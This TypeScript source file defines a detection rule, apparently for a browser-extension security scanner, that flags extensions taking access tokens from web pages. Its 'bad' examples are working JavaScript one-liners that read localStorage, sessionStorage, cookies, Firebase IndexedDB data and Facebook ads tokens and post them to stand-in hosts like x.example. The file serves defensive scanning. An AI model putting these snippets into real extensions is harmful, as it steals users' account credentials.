import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
import { takenFromPage, ownTokens, huntedTokens } from './tokensTaken.ts';

export const tokenTakenFromPage = defineRule({
  id: 'token-taken-from-page',
  title: 'Takes access tokens from web pages',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  cap: { grade: 'D', reason: 'it sends access tokens to a server', from: 'critical' },
  references: ['https://attack.mitre.org/techniques/T1528/'],
  why: 'An access token opens the account at that site for whoever holds it. Sites store tokens where only their own pages should read them.',
  remedy: 'Use the site’s OAuth sign-in and ask for only the rights you need.',
  check: checkScripts(function* (judged) {
    yield* takenFromPage(judged);
    yield* ownTokens(judged);
    yield* huntedTokens(judged);
  }),
  examples: {
    bad: [
      contentExample(
        'const t = localStorage.getItem("token"); fetch("https://x.example/t", { method: "POST", body: t });',
      ),
      contentExample('chrome.runtime.sendMessage({ store: JSON.stringify(localStorage) });'),
      contentExample('navigator.sendBeacon("https://x.example/s", JSON.stringify(Object.entries(sessionStorage)));'),
      backgroundExample(
        'fetch("https://adsmanager.facebook.com/adsmanager/manage/campaigns").then((r) => r.text()).then((t) => { const m = /EAAB\\w+/.exec(t); fetch("https://x.example/f?t=" + m[0]); });',
      ),
      backgroundExample(
        'fetch("https://shop.example/account", { credentials: "include" }).then((r) => r.text()).then((t) => { const m = /accessToken="([^"]+)"/.exec(t); fetch("https://x.example/f", { method: "POST", body: m[1] }); });',
      ),
      backgroundExample(
        'fetch("https://shop.example/account", { credentials: "include" }).then((r) => r.text()).then((t) => { const m = /"access_token":"(.*?)"/.exec(t); fetch("https://x.example/f", { method: "POST", body: m[1] }); });',
      ),
      backgroundExample(
        'fetch("https://shop.example/account", { credentials: "include" }).then((r) => r.text()).then((t) => { const m = /"accessToken"\\s*:\\s*"([^"]+)/.exec(t); fetch("https://x.example/f", { method: "POST", body: m[1] }); });',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((tabId, i, tab) => { chrome.scripting.executeScript({ target: { tabId }, func: () => ({ ls: { ...localStorage }, ck: document.cookie }) }).then(([r]) => { fetch("https://x.example/up", { method: "POST", body: JSON.stringify(r.result) }); }); });',
      ),
      contentExample(
        'const f = document.createElement("iframe"); document.head.append(f); const t = f.contentWindow.localStorage.token; if (t) fetch("https://x.example/d", { method: "POST", body: t });',
      ),
      backgroundExample(
        'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://sorter.example/grant", { method: "POST", body: token }); });',
      ),
      contentExample(
        'const open = indexedDB.open("firebaseLocalStorageDb"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ extra: q.result.map((r) => r.value) }); }; };',
      ),
    ],
    good: [
      backgroundExample(
        'const open = indexedDB.open("mine"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ rows: q.result }); }; };',
      ),
      backgroundExample(
        'chrome.identity.getAuthToken({}, (token) => { fetch("https://www.googleapis.com/calendar/v3/x", { headers: { Authorization: "Bearer " + token } }); }); fetch("https://api.example.com/v");',
      ),
      backgroundExample(
        'chrome.scripting.executeScript({ target: { tabId }, func: () => document.title }).then(([r]) => fetch("https://x.example/t?t=" + r.result)); const all = { ...localStorage };',
      ),
      contentExample('const theme = localStorage.getItem("theme"); fetch("https://x.example/t?theme=" + theme);'),
      backgroundExample(
        'const token = localStorage.getItem("token"); fetch("https://api.example.com/me", { headers: { authorization: "Bearer " + token } });',
      ),
      backgroundExample(
        'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://www.googleapis.com/x", { headers: { authorization: "Bearer " + token } }); });',
      ),
    ],
  },
});
